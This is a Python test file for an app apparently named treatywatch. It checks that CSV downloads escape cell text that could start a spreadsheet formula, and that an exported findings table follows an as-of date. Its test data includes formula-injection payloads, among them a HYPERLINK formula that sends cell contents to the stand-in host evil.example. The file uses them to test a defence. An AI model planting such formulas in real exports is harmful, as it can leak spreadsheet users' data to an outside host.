"""CSV downloads are safe to open in a spreadsheet: text that could start a formula is inert."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from conftest import EXAMPLE
from treatywatch.ingest import import_paths
from treatywatch.render.tables import csv_cell, write_csv
from treatywatch.store.db import Store
from treatywatch.web.app import create_app

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "+1+1", "-1+1"]


@pytest.mark.parametrize("text", [*FORMULAS, "\tcmd", "\r=1+1", "-3.3"])
def test_text_that_could_start_a_formula_gets_a_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["CEDEM", "2016-05-28/2016-06-05", "", "a=b", "'=1", 3, None])
def test_other_cells_are_left_alone(value: object) -> None:
    assert csv_cell(value) == value


def test_our_own_numbers_stay_numbers() -> None:
    text = write_csv([{"lead": -3.3, "count": -2, "as_written": "-3.3", "ok": True}])
    assert text.splitlines() == ["lead,count,as_written,ok", "-3.3,-2,'-3.3,True"]


@pytest.fixture
def hostile(tmp_path: Path) -> TestClient:
    """The example with formulas for pollster names."""
    text = EXAMPLE.read_text(encoding="utf-8")
    for old, new in zip(["| CISR/IRI |", "| NSPM |", "| Ipsos |"], FORMULAS, strict=False):
        text = text.replace(old, f"| {new} |")
    path = tmp_path / "hostile.txt"
    path.write_text(text, encoding="utf-8")
    db = str(tmp_path / "hostile.db")
    with Store.open(db) as store:
        import_paths(store, [path])
    return TestClient(create_app(db))


def test_csv_download_neutralises_source_text(hostile: TestClient) -> None:
    r = hostile.get("/api/v1/processes/montenegro-nato/polls.csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    pollsters = {row["pollster"] for row in rows}
    assert {"'" + f for f in FORMULAS[:3]} <= pollsters
    assert not any(p.startswith(("=", "+", "-", "@")) for p in pollsters)
    cisr = next(row for row in rows if row["pollster"] == "'" + FORMULAS[0])
    assert (cisr["share_for"], cisr["share_against"]) == ("43.0", "51.0")  # numbers untouched


def test_the_findings_table_follows_the_as_of_day_as_the_page_does(tmp_path: Path) -> None:
    """Today's table has every finding; an earlier day's only those on the lines of what had
    happened by then: the ones the page's Checks panel shows (render.reading.checks_in_view)."""
    from datetime import date

    from treatywatch.queries.records import process_records
    from treatywatch.render.reading import checks_in_view
    from treatywatch.web.app import create_app

    db = str(tmp_path / "f.db")
    with Store.open(db) as s:
        import_paths(s, [EXAMPLE])
        shown = checks_in_view(process_records(s, "montenegro-nato", date(2016, 12, 31)))
        total = len(process_records(s, "montenegro-nato").findings)

    def ids(url: str) -> list[str]:
        r = client.get(url)
        assert r.status_code == 200
        return [row["id"] for row in csv.DictReader(io.StringIO(r.text))]

    base = "/api/v1/processes/montenegro-nato/findings.csv"
    with TestClient(create_app(db)) as client:
        assert len(ids(base)) == total
        earlier = ids(f"{base}?as_of=2016-12-31")
    assert 0 < len(earlier) < total and shown.left_out == total - len(earlier)
    assert sorted(earlier) == sorted(f.id for f in shown.findings)
